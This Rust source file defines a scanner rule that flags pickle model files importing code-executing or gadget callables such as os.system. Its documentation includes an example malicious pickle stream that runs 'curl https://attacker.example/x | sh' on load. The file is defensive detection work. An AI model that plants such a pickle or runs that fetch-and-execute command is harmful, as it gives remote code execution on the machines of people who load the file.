use rampart_core::declare_rule;

use crate::context::Ctx;
use crate::formats::pickle::{Judgement, PickleIr};

declare_rule! {
    /// ## What it does
    /// Reports a pickle that imports a name known to execute code, spawn processes,
    /// touch files or the network, or hand such capabilities to other callables
    /// (gadgets such as `operator.attrgetter` or `functools.partial`), or that uses
    /// `getattr` on anything but an allowed name or a plain container's method
    /// (`getattr(zoneinfo.ZoneInfo, '_unpickle')` is judged as
    /// `zoneinfo.ZoneInfo._unpickle`, `getattr(os.path, 'os')` as `os.path.os`), or passes
    /// `getattr` itself around as a value.
    ///
    /// ## Why is this dangerous?
    /// Unpickling imports every `GLOBAL`/`STACK_GLOBAL`/`INST` name and calls what
    /// `REDUCE`, `OBJ`, `INST` and `NEWOBJ` are given. A model file that imports
    /// `os.system` runs a shell command the moment `torch.load`, `pickle.load`,
    /// `joblib.load` or `numpy.load(allow_pickle=True)` reads it.
    ///
    /// ## Example
    /// ```text
    /// cos\nsystem\n(S'curl https://attacker.example/x | sh'\ntR.
    /// ```
    /// or, in a PyTorch checkpoint, `archive/data.pkl` containing
    /// `STACK_GLOBAL('posix', 'system')` with the module and name fetched from the memo.
    ///
    /// ## Remediation
    /// Do not load the file. Obtain the model from its original publisher, verify its
    /// signature (`rampart verify`), and prefer formats that cannot carry code
    /// (safetensors, GGUF, ONNX without custom operators).
    ///
    /// ## False positives
    /// None known for model files: no legitimate checkpoint needs these names.
    ///
    /// ## References
    /// MITRE ATLAS AML.T0010 (ML Supply Chain Compromise) and AML.T0011.000 (Unsafe ML
    /// Artifacts); guidelines SD-3 (scan untrusted models), DV-1 (secure your supply
    /// chain).
    pub(crate) static RULE = {
        code: "PKL001",
        name: "dangerous-global",
        severity: Critical,
        guidelines: [Sd3, Dv1],
        summary: "Pickle imports a callable that executes code or reaches the system",
    }
}

pub(crate) fn check(ir: &PickleIr, ctx: &mut Ctx<'_>) {
    for g in &ir.globals {
        if let Judgement::Gadget(why) = g.judgement() {
            if !g.gadget_escaped() {
                continue;
            }
            let message = if g.unresolved {
                format!(
                    "pickle calls `{}` ({why}) on something that cannot be resolved to an allowed name, via {}",
                    g.display(),
                    g.opcode
                )
            } else {
                format!(
                    "pickle passes `{}` ({why}) around as a value, where anything can call it later, via {}",
                    g.path(),
                    g.opcode
                )
            };
            ctx.report(&RULE, message, Some(g.offset), Some(g.path()));
            continue;
        }
        if let Judgement::Dangerous(why) = g.judgement() {
            let how = if g.called || g.instantiated {
                "calls"
            } else {
                "imports"
            };
            ctx.report(
                &RULE,
                format!("pickle {how} `{}` ({why}) via {}", g.display(), g.opcode),
                Some(g.offset),
                Some(g.path()),
            );
        }
    }
}
